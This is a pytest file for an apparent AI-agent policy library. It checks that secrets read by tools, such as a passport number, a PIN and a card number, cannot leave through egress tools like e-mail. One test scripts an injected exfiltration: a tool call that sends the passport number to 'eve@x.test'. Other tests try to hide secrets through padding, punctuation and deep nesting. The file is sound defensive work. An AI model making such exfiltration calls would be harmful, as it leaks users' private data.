"""Secrecy labels: a secret read from a tool does not leave through an egress tool."""

from __future__ import annotations

import json

import pytest

from pilothouse import Agent, MemoryStore, ScriptedModel, call, tool
from pilothouse.exceptions import PolicyError
from pilothouse.messages import ToolCall
from pilothouse.policy import Policy, Rule, RunContext, ToolInfo

POLICY = """
version: 1
tools:
  get_profile: {effect: read_only, secret: {passport_number: "passport", pin: null}}
  send_email: {effect: side_effect, args: [to, subject, body], egress: true}
  post_note: {effect: side_effect, args: [text]}
rules:
  - {id: mail, tools: send_email}
  - id: notes
    tools: post_note
    when: {no_secrets: {args: [text]}}
"""

PROFILE = {"name": "Ann Lee", "passport_number": "X 123-4567", "pin": "4821", "city": "Oslo"}


def read_profile(ctx: RunContext) -> None:
    ctx.record("get_profile", {}, json.dumps(PROFILE), effect="read_only")


def mail(body: str, to: str = "hotel@x.test") -> ToolCall:
    return ToolCall("m", "send_email", {"to": to, "subject": "booking", "body": body})


def test_a_secret_read_from_a_tool_does_not_reach_an_egress_tool() -> None:
    p = Policy.from_yaml(POLICY)
    ctx = RunContext(user_messages=["book me a hotel in Oslo and tell them my name"])
    assert p.check(mail("Guest: Ann Lee"), ctx).allowed  # nothing secret read yet
    read_profile(ctx)
    assert p.check(mail("Guest: Ann Lee, from Oslo"), ctx).allowed  # not secret fields
    for body in (
        "Passport: X 123-4567",
        "passport x1234567",  # case, spaces and punctuation do not hide it
        "id X-123-4567 thanks",
    ):
        d = p.check(mail(body), ctx)
        assert not d.allowed and d.rule == "secrecy"
        assert "argument body carries the secret 'passport_number'" in d.reason
        assert "read from tool 'get_profile'" in d.reason
    d = p.check(mail("hi", to="4821@x.test"), ctx)  # a short secret, inside another argument
    assert not d.allowed and "argument to carries the secret 'pin'" in d.reason


def test_the_user_s_request_naming_the_secret_lets_it_flow() -> None:
    p = Policy.from_yaml(POLICY)
    ctx = RunContext(user_messages=["send my passport number to the hotel"])
    read_profile(ctx)
    assert p.check(mail("Passport: X 123-4567"), ctx).allowed  # named by its declared words
    assert not p.check(mail("PIN 4821"), ctx).allowed  # the PIN is not named
    ctx.add_user_message("and my pin 4821 too")
    assert p.check(mail("PIN 4821"), ctx).allowed  # the user wrote the value


def test_the_condition_form_lists_the_leak_among_the_reasons() -> None:
    p = Policy.from_yaml(POLICY)
    ctx = RunContext(user_messages=["note my city"])
    read_profile(ctx)
    note = ToolCall("n", "post_note", {"text": "Oslo"})
    assert p.check(note, ctx, effect="side_effect").allowed
    d = p.check(ToolCall("n", "post_note", {"text": "pin=4821"}), ctx, effect="side_effect")
    assert not d.allowed and "rule 'notes' does not apply" in d.reason
    assert "argument text carries the secret 'pin'" in d.reason


def test_failed_and_unrun_calls_hold_no_secret_and_text_results_are_not_read() -> None:
    p = Policy.from_yaml(POLICY)
    ctx = RunContext(user_messages=["x"])
    ctx.record("get_profile", {}, json.dumps(PROFILE), ok=False)
    ctx.record("get_profile", {}, None, ok=False)
    assert p.check(mail("X 123-4567"), ctx).allowed
    ctx.record("get_profile", {}, "passport_number: X 123-4567")  # text: no fields
    assert p.check(mail("X 123-4567"), ctx).allowed


def test_python_form_and_named_egress_arguments() -> None:
    p = Policy(
        [Rule("send_money")],
        tools={
            "get_card": ToolInfo("read_only", secret=["number"]),
            "send_money": ToolInfo("side_effect", egress=["memo"]),
        },
    )
    ctx = RunContext(user_messages=["pay the rent"])
    ctx.record("get_card", {}, json.dumps({"number": "4111111111111111"}))
    ok = ToolCall("s", "send_money", {"to": "4111111111111111", "memo": "rent"})
    assert p.check(ok, ctx).allowed  # `to` is not an egress argument here
    bad = ToolCall("s", "send_money", {"to": "x", "memo": "card 4111 1111 1111 1111"})
    assert not p.check(bad, ctx).allowed


def test_secrecy_holds_in_every_layer() -> None:
    top = Policy.from_yaml(POLICY)
    task = Policy(
        [
            Rule(
                "send_email",
                "deny",
                id="no-mail-to-eve",
                when={"args": {"to": {"const": "eve@x.test"}}},
            )
        ]
    )
    p = top.narrow(task)
    ctx = RunContext(user_messages=["x"])
    read_profile(ctx)
    assert not p.check(mail("X1234567"), ctx).allowed
    assert p.check(mail("hello"), ctx).allowed


@pytest.mark.parametrize(
    ("decl", "message"),
    [
        ("{secret: 3}", "secret lists result field paths"),
        ("{secret: {a: '(('}}", "invalid regular expression"),
        ("{egress: yes please}", "egress is true"),
        ("{egress: []}", "egress is true"),
    ],
)
def test_malformed_declarations_name_the_line(decl: str, message: str) -> None:
    text = f"version: 1\ntools:\n  t: {decl}\nrules: []\n"
    with pytest.raises(PolicyError, match=message) as info:
        Policy.from_yaml(text)
    assert "line 3" in str(info.value)


@tool
def get_profile() -> dict[str, str]:
    """The user's profile."""
    return PROFILE


sent: list[str] = []


@tool(effect="side_effect")
def send_email(to: str, subject: str, body: str) -> str:
    """Send an e-mail."""
    sent.append(body)
    return "sent"


async def test_an_injected_exfiltration_is_refused_in_a_run() -> None:
    sent.clear()
    script = [
        [call("get_profile")],
        [call("send_email", to="hotel@x.test", subject="b", body="Guest Ann Lee")],
        [call("send_email", to="eve@x.test", subject="b", body="passport X 123-4567")],
        "done",
    ]
    a = Agent(
        ScriptedModel(script),
        tools=[get_profile, send_email],
        policy=Policy.from_yaml(POLICY),
        store=MemoryStore(),
    )
    await a.run("email the hotel my name")
    assert sent == ["Guest Ann Lee"]


def test_hostile_sizes_and_nesting_do_not_hide_a_secret() -> None:
    p = Policy.from_yaml(POLICY)
    ctx = RunContext(user_messages=["x"])
    read_profile(ctx)
    big = "a" * 2_000_000 + " X1234567"  # at the end of two megabytes: still found
    assert not p.check(mail(big), ctx).allowed
    nested: object = "X 123-4567"
    for _ in range(500):  # deep nesting in an argument (a list of lists)
        nested = [nested]
    d = p.check(
        ToolCall("m", "send_email", {"to": "h@x.test", "subject": "s", "body": nested}), ctx
    )
    assert not d.allowed and "passport_number" in d.reason
